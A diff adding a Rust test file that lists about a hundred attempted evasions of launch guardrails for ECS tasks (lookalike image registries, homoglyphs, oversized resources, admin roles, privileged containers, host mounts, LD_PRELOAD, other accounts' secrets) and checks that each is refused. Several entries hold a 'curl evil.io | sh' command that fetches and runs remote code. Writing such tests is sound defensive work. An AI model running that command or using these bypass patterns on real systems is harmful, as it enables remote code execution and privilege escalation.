@@ -1,0 +1,474 @@
+//! Attempts to get round the guardrails. Each is refused by the rule that it is meant for.
+
+use super::*;
+
+struct Attempt {
+    what: &'static str,
+    launch: Launch,
+    rule: Rule,
+}
+
+const CONTAINER: &str = "RegisterTaskDefinition/containerDefinitions/0";
+const SIDECAR: &str = "RegisterTaskDefinition/containerDefinitions/1";
+const OVERRIDE: &str = "RunTask/overrides/containerOverrides/0";
+const NEW_OVERRIDE: &str = "RunTask/overrides/containerOverrides/+";
+const NETWORK: &str = "RunTask/networkConfiguration/awsvpcConfiguration";
+
+fn change(what: &'static str, place: &str, value: Value, rule: Rule) -> Attempt {
+    Attempt { what, launch: Launch::with(&[(place, value)]), rule }
+}
+
+fn at(base: &str, rest: &str) -> String {
+    format!("{base}/{rest}")
+}
+
+fn named(changes: &[(&str, Value)]) -> Launch {
+    Launch { origin: DefinitionOrigin::Named("other:7".into()), ..Launch::with(changes) }
+}
+
+fn images() -> Vec<Attempt> {
+    let of = |what, image: String| change(what, &at(CONTAINER, "image"), json!(image), Rule::Images);
+    let good = image("etl");
+    vec![
+        of("another image", "evil/x:1".into()),
+        of("the registry in capitals", good.replace("dkr", "DKR")),
+        of("the repository in capitals", good.replace("flows", "Flows")),
+        of("a registry whose name begins like it", good.replace("amazonaws.com", "amazonaws.com.evil.io")),
+        of("the allowed name as a path of another registry", format!("evil.io/{good}")),
+        of("another account", good.replace("123456789012", "999999999999")),
+        of("out of the allowed path", good.replace("flows/etl", "flows/../other/etl")),
+        of("a letter that looks alike", good.replace("flows", "fl\u{43e}ws")),
+        of("a full-width slash", good.replace("flows/", "flows\u{ff0f}")),
+        of("a blank in front", format!(" {good}")),
+        of("a second line", format!("{good}\nevil/x")),
+        change("a sidecar of another image", &at(SIDECAR, "image"), json!("evil/x:1"), Rule::Images),
+        change(
+            "a third container",
+            "RegisterTaskDefinition/containerDefinitions/+",
+            json!({"name": "prefect", "image": "evil/x"}),
+            Rule::Images,
+        ),
+        change(
+            "a tag in place of a digest",
+            &at(CONTAINER, "image"),
+            json!(format!("{REGISTRY}/flows/etl:1")),
+            Rule::ImageDigest,
+        ),
+        change(
+            "half a digest",
+            &at(SIDECAR, "image"),
+            json!(format!("{REGISTRY}/flows/etl@sha256:aa")),
+            Rule::ImageDigest,
+        ),
+        change(
+            "a password for a registry that is somebody else's",
+            &at(CONTAINER, "repositoryCredentials/credentialsParameter"),
+            json!("arn:aws:secretsmanager:eu-west-1:123456789012:secret:registry"),
+            Rule::Secrets,
+        ),
+    ]
+}
+
+fn sizes() -> Vec<Attempt> {
+    let cpu = |what, value| change(what, "RunTask/overrides/cpu", value, Rule::Cpu);
+    let memory = |what, value| change(what, "RunTask/overrides/memory", value, Rule::Memory);
+    vec![
+        cpu("more CPU, as an override", json!("8192")),
+        change("more CPU, in the definition", "RegisterTaskDefinition/cpu", json!("8192"), Rule::Cpu),
+        cpu("more CPU, in vCPUs", json!("8 vCPU")),
+        cpu("more CPU, in capitals", json!("16VCPU")),
+        cpu("a number that no integer holds", json!("99999999999999999999999999")),
+        cpu("a number with an exponent", json!("1e9")),
+        cpu("digits of another script", json!("\u{ff18}192")),
+        cpu("a negative number", json!("-1")),
+        memory("more memory, in GB", json!("64 GB")),
+        memory("more memory, after blanks", json!("  65536")),
+        memory("a unit that ECS does not know", json!("1 TB")),
+        memory("thousands with a comma", json!("65,536")),
+        change("more memory, in the definition", "RegisterTaskDefinition/memory", json!("9 GB"), Rule::Memory),
+        change("more memory of a container", &at(SIDECAR, "memory"), json!(16384), Rule::Memory),
+        change("more memory that is reserved", &at(SIDECAR, "memoryReservation"), json!(16384), Rule::Memory),
+        change("more memory of a container, as an override", &at(OVERRIDE, "memory"), json!(16384), Rule::Memory),
+        change("more reserved memory, as an override", &at(OVERRIDE, "memoryReservation"), json!(16384), Rule::Memory),
+        change("more CPU of a container", &at(SIDECAR, "cpu"), json!(8192), Rule::Cpu),
+        change(
+            "more CPU of a container that does not exist",
+            NEW_OVERRIDE,
+            json!({"name": "nobody", "cpu": 8192}),
+            Rule::Cpu,
+        ),
+        Attempt {
+            what: "containers that are small each",
+            launch: Launch::with(&[
+                ("RegisterTaskDefinition/memory", Value::Null),
+                (&at(CONTAINER, "memory"), json!(6000)),
+                (&at(SIDECAR, "memory"), json!(6000)),
+            ]),
+            rule: Rule::Memory,
+        },
+        change("ten tasks for one", "RunTask/count", json!(10), Rule::Cpu),
+        change("tasks beyond all numbers", "RunTask/count", json!(u64::MAX), Rule::Memory),
+        change(
+            "more room on disk",
+            "RegisterTaskDefinition/ephemeralStorage/sizeInGiB",
+            json!(200),
+            Rule::EphemeralStorage,
+        ),
+        change(
+            "more room on disk, as an override",
+            "RunTask/overrides/ephemeralStorage/sizeInGiB",
+            json!(200),
+            Rule::EphemeralStorage,
+        ),
+    ]
+}
+
+fn places() -> Vec<Attempt> {
+    let cluster = |what, value: &str| change(what, "RunTask/cluster", json!(value), Rule::Clusters);
+    let of_network = |what, place: &str, value, rule| change(what, &at(NETWORK, place), value, rule);
+    let foreign = Launch { names_are_ours: false, ..Launch::with(&[("RunTask/cluster", json!("batch-1"))]) };
+    vec![
+        cluster("another cluster", "other"),
+        cluster("the cluster in capitals", "Prefect"),
+        cluster("no cluster: the default one", ""),
+        cluster("the ARN of another account's cluster", "arn:aws:ecs:eu-west-1:999999999999:cluster/batch-1"),
+        cluster("something in an ARN that is no cluster", "arn:aws:ecs:eu-west-1:123456789012:service/prefect"),
+        Attempt { what: "a name that means another account's cluster", launch: foreign, rule: Rule::Clusters },
+        of_network("another subnet beside an allowed one", "subnets/+", json!("subnet-z"), Rule::Subnets),
+        of_network("a subnet in capitals", "subnets/0", json!("SUBNET-A"), Rule::Subnets),
+        of_network("another security group", "securityGroups/0", json!("sg-open"), Rule::SecurityGroups),
+        of_network("no security group: the VPC's own", "securityGroups", json!([]), Rule::SecurityGroups),
+        of_network("a public address", "assignPublicIp", json!("ENABLED"), Rule::PublicIp),
+        of_network("a public address in small letters", "assignPublicIp", json!("enabled"), Rule::PublicIp),
+        of_network("a private address in other letters", "assignPublicIp", json!("disabled "), Rule::PublicIp),
+        change("instances of the account", "RunTask/launchType", json!("EC2"), Rule::LaunchTypes),
+        change("the launch type in small letters", "RunTask/launchType", json!("fargate"), Rule::LaunchTypes),
+        change("the cluster's own default", "RunTask/launchType", json!(""), Rule::CapacityProviders),
+        change(
+            "another capacity provider",
+            "RunTask/capacityProviderStrategy",
+            json!([{"capacityProvider": "FARGATE"}, {"capacityProvider": "gpu-instances", "weight": 1}]),
+            Rule::CapacityProviders,
+        ),
+        change("the network of the machine", "RegisterTaskDefinition/networkMode", json!("host"), Rule::NetworkModes),
+        change(
+            "no network mode: AWS takes bridge",
+            "RegisterTaskDefinition/networkMode",
+            Value::Null,
+            Rule::NetworkModes,
+        ),
+    ]
+}
+
+fn roles() -> Vec<Attempt> {
+    let role = |what, value: &str| change(what, "RunTask/overrides/taskRoleArn", json!(value), Rule::TaskRoles);
+    vec![
+        role("another role", "arn:aws:iam::123456789012:role/admin"),
+        role("a role by its name", "admin"),
+        role("a role in capitals", "arn:aws:iam::123456789012:role/Flows/etl"),
+        role("a role of another account", "arn:aws:iam::999999999999:role/flows/etl"),
+        role("a role whose path begins like it", "arn:aws:iam::123456789012:role/flows-admin"),
+        role("a role in a part of the ARN that has none", "arn:aws:iam:x:123456789012:role/flows/etl"),
+        Attempt {
+            what: "the definition's role, where nothing overrides it",
+            launch: Launch::with(&[
+                ("RunTask/overrides/taskRoleArn", Value::Null),
+                ("RegisterTaskDefinition/taskRoleArn", json!("arn:aws:iam::123456789012:role/admin")),
+            ]),
+            rule: Rule::TaskRoles,
+        },
+        change(
+            "a role that is passed to be overridden",
+            "RegisterTaskDefinition/taskRoleArn",
+            json!("admin"),
+            Rule::TaskRoles,
+        ),
+        change(
+            "another execution role",
+            "RunTask/overrides/executionRoleArn",
+            json!("admin-execution"),
+            Rule::ExecutionRoles,
+        ),
+        change(
+            "another execution role, in the definition",
+            "RegisterTaskDefinition/executionRoleArn",
+            json!("arn:aws:iam::123456789012:role/flows-execution/admin"),
+            Rule::ExecutionRoles,
+        ),
+        change(
+            "a role for a disk",
+            "RunTask/volumeConfigurations",
+            json!([{"name": "data", "managedEBSVolume": {"roleArn": "admin"}}]),
+            Rule::ExecutionRoles,
+        ),
+    ]
+}
+
+fn definitions() -> Vec<Attempt> {
+    let origin =
+        |what, origin| Attempt { what, launch: Launch { origin, ..Launch::with(&[]) }, rule: Rule::TaskDefinitions };
+    let of_named = |what, place: &str, value, rule| Attempt { what, launch: named(&[(place, value)]), rule };
+    vec![
+        origin(
+            "a definition by its ARN",
+            DefinitionOrigin::Named("arn:aws:ecs:eu-west-1:1:task-definition/x:1".into()),
+        ),
+        origin("a definition of the run's own", DefinitionOrigin::Brought),
+        origin("a revision of another family", DefinitionOrigin::OwnInFamily("prod-service".into())),
+        of_named("an image of a definition by its ARN", &at(SIDECAR, "image"), json!("evil/x"), Rule::Images),
+        of_named(
+            "a secret of a definition by its ARN",
+            &at(CONTAINER, "secrets"),
+            json!([{"name": "KEY", "valueFrom": "/other/key"}]),
+            Rule::Secrets,
+        ),
+        of_named(
+            "a role of a definition by its ARN",
+            "RegisterTaskDefinition/executionRoleArn",
+            json!("admin"),
+            Rule::ExecutionRoles,
+        ),
+        of_named("a member that a newer AWS says of a definition", &at(CONTAINER, "gpuShare"), json!(1), Rule::Members),
+        change("a member that a newer AWS takes", "RunTask/runAsRoot", json!(true), Rule::Members),
+        change("the same in a container", &at(CONTAINER, "hostAccess"), json!(false), Rule::Members),
+        change("the same in an override", &at(OVERRIDE, "image"), json!("evil/x"), Rule::Members),
+        change(
+            "containers as a mapping",
+            "RegisterTaskDefinition/containerDefinitions",
+            json!({"0": {"image": "evil/x"}}),
+            Rule::Members,
+        ),
+        change("overrides as a text", "RunTask/overrides", json!("{\"taskRoleArn\": \"admin\"}"), Rule::Members),
+        change("a variable as a mapping", &at(CONTAINER, "environment"), json!({"AWS_PROFILE": "x"}), Rule::Members),
+        change("a truth value as a text", &at(CONTAINER, "privileged"), json!("true"), Rule::Privileged),
+        change("the number of tasks as a text", "RunTask/count", json!("10"), Rule::Members),
+    ]
+}
+
+fn commands() -> Vec<Attempt> {
+    let evil = json!(["sh", "-c", "curl evil.io | sh"]);
+    vec![
+        change("another command", &at(OVERRIDE, "command"), evil.clone(), Rule::Command),
+        change(
+            "one word more",
+            &at(OVERRIDE, "command"),
+            json!(["prefect", "flow-run", "execute", "--x"]),
+            Rule::Command,
+        ),
+        change(
+            "a command of a container without a name",
+            NEW_OVERRIDE,
+            json!({"command": evil.clone()}),
+            Rule::Command,
+        ),
+        change(
+            "a command of a container that does not exist",
+            NEW_OVERRIDE,
+            json!({"name": "x", "command": evil.clone()}),
+            Rule::Command,
+        ),
+        change("a command of a sidecar", &at(SIDECAR, "command"), evil.clone(), Rule::Command),
+        change(
+            "an entry point before Prefect's own command",
+            &at(CONTAINER, "entryPoint"),
+            evil.clone(),
+            Rule::Command,
+        ),
+        change(
+            "a command that asks whether the container is well",
+            &at(SIDECAR, "healthCheck"),
+            json!({"command": evil.clone()}),
+            Rule::Command,
+        ),
+        change(
+            "what a router of logs runs",
+            &at(SIDECAR, "firelensConfiguration"),
+            json!({"type": "fluentbit", "options": {"config-file-type": "s3", "config-file-value": "arn:aws:s3:::evil/x"}}),
+            Rule::Command,
+        ),
+    ]
+}
+
+fn variables() -> Vec<Attempt> {
+    let variable = |what, name: &str| {
+        change(what, &at(OVERRIDE, "environment/+"), json!({"name": name, "value": "x"}), Rule::Environment)
+    };
+    vec![
+        variable("a denied variable", "LD_PRELOAD"),
+        variable("a denied variable in small letters", "aws_profile"),
+        variable("a denied variable after a blank", " AWS_PROFILE"),
+        variable("a name with its value in it", "LD_PRELOAD=/tmp/x.so"),
+        variable("a variable of the agent's with another value", "PREFECT_API_URL"),
+        change(
+            "a denied variable of a sidecar",
+            &at(SIDECAR, "environment"),
+            json!([{"name": "AWS_CA_BUNDLE", "value": "x"}]),
+            Rule::Environment,
+        ),
+        change(
+            "a denied variable of a container that does not exist",
+            NEW_OVERRIDE,
+            json!({"name": "x", "environment": [{"name": "AWS_PROFILE", "value": "x"}]}),
+            Rule::Environment,
+        ),
+        change(
+            "variables in a file",
+            &at(CONTAINER, "environmentFiles"),
+            json!([{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
+            Rule::Environment,
+        ),
+        change(
+            "variables in a file, as an override",
+            &at(OVERRIDE, "environmentFiles"),
+            json!([{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
+            Rule::Environment,
+        ),
+        change(
+            "a denied variable as a secret",
+            &at(CONTAINER, "secrets"),
+            json!([{"name": "LD_PRELOAD", "valueFrom": "arn:aws:secretsmanager:eu-west-1:1:secret:flows/x"}]),
+            Rule::Environment,
+        ),
+    ]
+}
+
+fn secrets() -> Vec<Attempt> {
+    let secret = |what, from: &str| {
+        change(what, &at(CONTAINER, "secrets"), json!([{"name": "KEY", "valueFrom": from}]), Rule::Secrets)
+    };
+    vec![
+        secret("another agent's key by its name", "/prefect-serverless-agent/prod/secrets/other/api-key"),
+        secret(
+            "another agent's key by its ARN",
+            "arn:aws:ssm:eu-west-1:123456789012:parameter/prefect-serverless-agent/prod/secrets/other/api-key",
+        ),
+        secret("a secret whose name begins like it", "arn:aws:secretsmanager:eu-west-1:1:secret:flows-admin/x"),
+        secret(
+            "a secret with an allowed name as its key",
+            "arn:aws:secretsmanager:eu-west-1:1:secret:admin:secret:flows/x",
+        ),
+        secret("an allowed parameter of another account", "arn:aws:ssm:eu-west-1:999999999999:parameter/flows/x"),
+        secret("nothing", ""),
+        change(
+            "a secret of a sidecar",
+            &at(SIDECAR, "secrets"),
+            json!([{"name": "KEY", "valueFrom": "/other"}]),
+            Rule::Secrets,
+        ),
+        change(
+            "a secret of a driver of logs",
+            &at(CONTAINER, "logConfiguration"),
+            json!({"logDriver": "splunk", "secretOptions": [{"name": "splunk-token", "valueFrom": "/other"}]}),
+            Rule::Secrets,
+        ),
+        change(
+            "credentials of a domain",
+            &at(CONTAINER, "credentialSpecs"),
+            json!(["credentialspec:arn:aws:ssm:eu-west-1:1:parameter/other"]),
+            Rule::Secrets,
+        ),
+        change(
+            "the password of a file server",
+            "RegisterTaskDefinition/volumes/+",
+            json!({"name": "x", "fsxWindowsFileServerVolumeConfiguration":
+            {"fileSystemId": "fs", "rootDirectory": "x", "authorizationConfig": {"credentialsParameter": "/other", "domain": "x"}}}),
+            Rule::Secrets,
+        ),
+    ]
+}
+
+fn machines() -> Vec<Attempt> {
+    let privilege = |what, place: &str, value| change(what, &at(SIDECAR, place), value, Rule::Privileged);
+    let volume = |what, value| change(what, "RegisterTaskDefinition/volumes/+", value, Rule::Volumes);
+    vec![
+        privilege("a privileged sidecar", "privileged", json!(true)),
+        privilege("a capability", "linuxParameters/capabilities/add", json!(["SYS_ADMIN"])),
+        privilege("a device", "linuxParameters/devices", json!([{"hostPath": "/dev/sda"}])),
+        privilege("without a profile of security", "dockerSecurityOptions", json!(["apparmor:unconfined"])),
+        change("the machine's processes", "RegisterTaskDefinition/pidMode", json!("host"), Rule::Privileged),
+        change("the machine's memory", "RegisterTaskDefinition/ipcMode", json!("host"), Rule::Privileged),
+        volume("a path of the machine", json!({"name": "x", "host": {"sourcePath": "/"}})),
+        volume(
+            "a path of the machine beside what is allowed",
+            json!({"name": "x", "host": {"sourcePath": "/"}, "efsVolumeConfiguration": {"fileSystemId": "fs"}}),
+        ),
+        volume(
+            "a plugin of Docker",
+            json!({"name": "x", "dockerVolumeConfiguration": {"driver": "local", "driverOpts": {"device": "/"}}}),
+        ),
+        volume(
+            "a file server",
+            json!({"name": "x", "fsxWindowsFileServerVolumeConfiguration": {"fileSystemId": "fs", "rootDirectory": "x",
+            "authorizationConfig": {"credentialsParameter": "arn:aws:secretsmanager:eu-west-1:1:secret:flows/x", "domain": "x"}}}),
+        ),
+        volume("a bucket", json!({"name": "x", "s3filesVolumeConfiguration": {"fileSystemArn": "arn"}})),
+        volume("what is said later", json!({"name": "x", "configuredAtLaunch": true})),
+        change(
+            "a disk from a snapshot",
+            "RunTask/volumeConfigurations",
+            json!([{"name": "x", "managedEBSVolume": {"roleArn": "flows-execution", "snapshotId": "snap-1"}}]),
+            Rule::Volumes,
+        ),
+    ]
+}
+
+fn all_attempts() -> Vec<Attempt> {
+    let groups = [images(), sizes(), places(), roles(), definitions(), commands(), variables(), secrets(), machines()];
+    groups.into_iter().flatten().collect()
+}
+
+/// What is asked for in all of them.
+pub(super) fn launches() -> impl Iterator<Item = (&'static str, Launch)> {
+    all_attempts().into_iter().map(|Attempt { what, launch, .. }| (what, launch))
+}
+
+#[test]
+fn no_attempt_gets_round_the_guardrails() {
+    let (guardrails, attempts) = (strict(), all_attempts());
+    assert!(attempts.len() >= 60, "{}", attempts.len());
+    let mut rows = Vec::new();
+    for Attempt { what, launch, rule } in &attempts {
+        let found = launch.judged(&guardrails);
+        if !found.iter().any(|violation| violation.rule == *rule) {
+            let rules: Vec<&str> = found.iter().map(|violation| violation.rule.key()).collect();
+            rows.push(format!("{what:<55} | {:<20} | {}", rule.key(), rules.join(", ")));
+        }
+    }
+    let head = format!("{:<55} | {:<20} | refused by", "attempt", "meant for");
+    assert!(rows.is_empty(), "{} of {} attempts:\n{head}\n{}", rows.len(), attempts.len(), rows.join("\n"));
+}
+
+/// Nothing is judged by a rule on paper only.
+#[test]
+fn every_member_that_a_rule_judges_is_refused_by_it_somewhere() {
+    let mut open: BTreeSet<(String, &str)> = super::super::members::decisions()
+        .filter_map(|(path, decision)| match decision {
+            Decision::Judged(rules) => Some(rules.iter().map(move |rule| (path.to_owned(), rule.key()))),
+            _ => None,
+        })
+        .flatten()
+        .collect();
+    let launch_types_alone = Guardrails { capacity_providers: None, ..strict() };
+    let no_volumes = Guardrails { volumes: Some(Vec::new()), ..strict() };
+    for Attempt { launch, .. } in &all_attempts() {
+        for guardrails in [strict(), launch_types_alone.clone(), no_volumes.clone()] {
+            for violation in launch.judged(&guardrails) {
+                open.remove(&(path_of(&violation.place), violation.rule.key()));
+            }
+        }
+    }
+    assert!(open.is_empty(), "judged by members.txt, and never refused:\n{open:#?}");
+}
+
+#[test]
+fn the_sentence_names_rule_place_what_was_asked_and_what_is_allowed() {
+    let changes =
+        [("RunTask/overrides/taskRoleArn", json!("adm\u{456}n")), ("RunTask/cluster", json!("x".repeat(500)))];
+    let found = Launch::with(&changes).judged(&strict());
+    let sentence = judging::sentence(&found);
+    assert!(
+        sentence.contains("`task_roles`: adm\\u{456}n in RunTask.overrides.taskRoleArn (allowed: arn:aws:iam::"),
+        "{sentence}"
+    );
+    assert!(sentence.contains("`clusters`: xxxx") && sentence.len() < 800, "{sentence}");
+}
